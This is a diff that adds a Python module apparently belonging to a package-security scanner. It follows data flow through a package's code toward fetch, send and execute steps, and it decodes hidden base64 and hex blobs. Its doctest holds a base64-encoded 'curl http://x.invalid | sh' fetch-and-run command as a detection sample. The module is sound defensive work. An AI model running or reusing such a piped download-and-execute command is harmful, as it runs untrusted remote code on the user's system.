@@ -1,0 +1,230 @@
+"""What goes where? Follows names through the steps of all programs of a package, from what is read to where it goes.
+
+Names carry what was put into them: through assignments, files, function arguments and results, across files. It is an
+approximation (no branches, no order), on purpose: a payload may be called from anywhere.
+"""
+
+from __future__ import annotations
+
+import base64
+import binascii
+import re
+from collections.abc import Iterable, Iterator, Sequence
+from dataclasses import dataclass, field
+
+from metier.govern.scan.hosts import addresses_of, urls_of
+from metier.govern.scan.labels import (
+    ACTS,
+    DECODE,
+    ENCODE,
+    EXECUTE,
+    FETCH,
+    GET_WITH_DATA,
+    NAME_LOOKUP,
+    PIPED,
+    SEND,
+    SOURCES,
+    Label,
+)
+from metier.govern.scan.statement import Statement
+from metier.govern.scan.triggers import Triggers
+
+LABELS: tuple[Label, ...] = (*SOURCES, FETCH, SEND, NAME_LOOKUP, GET_WITH_DATA, EXECUTE, PIPED, DECODE, ENCODE, *ACTS)
+_SOURCE_NAMES = frozenset(label.name for label in SOURCES)
+_MAX_PASSES = 4
+_MAX_BLOB = 200_000
+_BLOB = re.compile(r"[A-Za-z0-9+/_-]{20,}={0,2}|(?:[0-9a-fA-F]{2}){16,}")
+_ALIAS = re.compile(
+    r"\bopen\(\s*(?:[\w.]*\.)?(\w+)\b.*\bas\s+(\w+)|\b(?:urlretrieve|DownloadFile|writeFile\w*|createWriteStream)\(\s*(?:[^,()]*,\s*)?(\w+)|(?P<to>\w+)\s*=\s*open\(\s*(?P<of>\w+)"
+)
+_STRINGS = re.compile(
+    r"[rbfRBF]{0,2}(?:\"\"\"([\s\S]*?)\"\"\"|'''([\s\S]*?)'''|\"((?:[^\"\\]|\\.)*)\"|'((?:[^'\\]|\\.)*)'|`((?:[^`\\]|\\.)*)`)"
+)
+_COMMON_NAMES = frozenset({"main", "get", "run", "data", "result", "response", "init", "load", "parse", "print", "len", "str", "open", "json", "post", "execute", "request", "send", "log", "exec", "fetch", "read", "write", "join", "map", "filter", "then", "next", "call", "test", "list", "dict", "format", "update", "start", "stop", "close", "handle", "process"})  # fmt: skip
+
+
+@dataclass(slots=True)
+class Step:
+    """A statement, its labels, what flows into it, and where it leads.
+
+    Attributes:
+        received: What it reads or was handed: kind → the step where that began.
+        urls: Addresses it names, or was handed.
+        hidden: It was found inside something encoded.
+    """
+
+    statement: Statement
+    labels: frozenset[str]
+    urls: tuple[str, ...] = ()
+    received: dict[str, Step] = field(default_factory=dict)
+    hidden: bool = False
+    hidden_url: bool = False
+
+    @property
+    def text(self) -> str:
+        """What the step says."""
+        return self.statement.text
+
+
+_triggers: list[Triggers] = []
+
+
+def label(statements: Sequence[Statement], *, hidden: bool = False) -> list[Step]:
+    """Tell for each statement what it does."""
+    if not _triggers:
+        _triggers.append(Triggers([label.pattern for label in LABELS]))
+    candidates = _triggers[0].candidates(statement.text.replace("\n", " ") for statement in statements)
+    steps = []
+    for number, statement in enumerate(statements):
+        text = statement.text if len(statement.text) < 6000 else statement.text[:6000]
+        names = frozenset(
+            LABELS[which].name for which in candidates.get(number, ()) if LABELS[which].pattern.search(text)
+        )
+        urls = tuple(addresses_of(text) if statement.is_shell or "send" in names or "fetch" in names else urls_of(text))
+        steps.append(Step(statement, names, urls, hidden=hidden))
+    return steps
+
+
+def follow(steps: Sequence[Step]) -> None:
+    """Fill in what each step receives."""
+    held: dict[tuple[str, ...], dict[str, Step]] = {}
+    addresses: dict[tuple[str, ...], tuple[str, ...]] = {}
+    functions: dict[str, tuple[str, tuple[str, ...]]] = {}
+    for step in steps:
+        if step.statement.parameters:
+            functions[step.statement.parameters[0]] = (step.statement.path, step.statement.parameters[1:])
+    for _ in range(_MAX_PASSES):
+        changed = False
+        for step in steps:
+            before = len(step.received)
+            step.received |= {name: step for name in step.labels & _SOURCE_NAMES if name not in step.received}
+            if (
+                "fetch" in step.labels
+                and "download" not in step.received
+                and (step.statement.assigns or not step.statement.is_shell)
+            ):
+                step.received["download"] = step
+            if "decode" in step.labels:
+                step.received.setdefault("decoded", step)
+            if "encode" in step.labels:
+                step.received.setdefault("encoded", step)
+            for key in _reads(step.statement):
+                for kind, origin in held.get(key, {}).items():
+                    step.received.setdefault(kind, origin)
+                if key in addresses and not step.urls:
+                    step.urls = addresses[key]
+                    step.hidden_url = (
+                        step.hidden_url or ("hidden",) in addresses and addresses[key] == addresses.get(("hidden",))
+                    )
+            for key in _writes(step.statement):
+                kept = held.setdefault(key, {})
+                grown = {kind: origin for kind, origin in step.received.items() if kind not in kept}
+                if grown:
+                    kept.update(grown)
+                    changed = True
+                if step.urls and key not in addresses and "send" not in step.labels:
+                    addresses[key] = step.urls
+                    changed = True
+            for name in step.statement.uses & functions.keys():
+                path, parameters = functions[name]
+                if step.statement.parameters[:1] == (name,) or not step.received and not step.urls:
+                    continue
+                for parameter in parameters[:8]:
+                    kept = held.setdefault((path, name, parameter), {})
+                    grown = {kind: origin for kind, origin in step.received.items() if kind not in kept}
+                    kept.update(grown)
+                    changed = changed or bool(grown)
+            changed = changed or len(step.received) != before
+        if not changed:
+            return
+
+
+def _reads(statement: Statement) -> Iterator[tuple[str, ...]]:
+    for name in statement.uses:
+        if statement.is_shell:
+            yield ("file", name) if "/" in name or "." in name else (statement.path, name)
+            continue
+        if statement.scope:
+            yield (statement.path, statement.scope, name)
+        yield (statement.path, "", name)
+        yield (statement.path, "", "." + name)
+        if name not in _COMMON_NAMES:
+            yield ("()", name)
+    if not statement.is_shell:
+        for found in _STRINGS.finditer(statement.text) if "/" in statement.text or "." in statement.text else ():
+            said = next((group for group in found.groups() if group), "")
+            if said and len(said) < 120 and ("/" in said or "." in said) and " " not in said:
+                yield ("file", said)
+
+
+def _writes(statement: Statement) -> Iterator[tuple[str, ...]]:
+    names: Iterable[str] = statement.assigns
+    for name in names:
+        if statement.is_shell:
+            yield ("file", name) if "/" in name or "." in name else (statement.path, name)
+        elif name.endswith("()"):
+            yield ("()", name[:-2])
+        elif name.startswith("."):
+            yield (statement.path, "", name)
+        else:
+            yield (statement.path, statement.scope, name)
+    if not statement.is_shell and (alias := _ALIAS.search(statement.text)):
+        name = alias[1] or alias[3] or alias["of"]
+        if name:
+            yield (statement.path, statement.scope, name)
+
+
+def strings_of(text: str) -> list[str]:
+    """The string literals in a statement, their escapes left as they are."""
+    return [next((group for group in found.groups() if group is not None), "") for found in _STRINGS.finditer(text)]
+
+
+def decoded_blobs(text: str) -> Iterator[str]:
+    """What stands encoded in a text, as far as it decodes to something readable.
+
+    >>> list(decoded_blobs("echo Y3VybCBodHRwOi8veC5pbnZhbGlkIHwgc2g= | base64 -d"))
+    ['curl http://x.invalid | sh']
+    """
+    if len(text) < 20:
+        return
+    for found in _BLOB.finditer(text, 0, min(len(text), _MAX_BLOB)):
+        blob = found[0]
+        for decode in (_hex, _base64):
+            said = decode(blob)
+            if said is not None:
+                yield said
+                break
+
+
+def _hex(blob: str) -> str | None:
+    if len(blob) % 2 or not re.fullmatch(r"[0-9a-fA-F]+", blob):
+        return None
+    return _readable(bytes.fromhex(blob))
+
+
+def _base64(blob: str) -> str | None:
+    if re.fullmatch(r"[a-z]+|[A-Z]+|[A-Za-z]+(?:[/_-][A-Za-z]+)+", blob):
+        return None
+    try:
+        data = base64.b64decode(blob.replace("-", "+").replace("_", "/") + "=" * (-len(blob) % 4), validate=True)
+    except (binascii.Error, ValueError):
+        return None
+    return _readable(data)
+
+
+def _readable(data: bytes) -> str | None:
+    if data[:2] in (b"\x1f\x8b", b"x\x9c", b"x\xda"):
+        import zlib
+
+        try:
+            data = zlib.decompressobj(47).decompress(data, 1 << 20)
+        except zlib.error:
+            return None
+    if data[1:2] == b"\0" and data[3:4] == b"\0":
+        data = data.decode("utf-16-le", "ignore").encode()
+    try:
+        text = data.decode("ascii")
+    except UnicodeDecodeError:
+        return None
+    plain = text.replace("\n", " ").replace("\t", " ").replace("\r", " ")
+    return text if len(text) >= 8 and plain.isprintable() and re.search(r"[a-z]{2}", text) else None
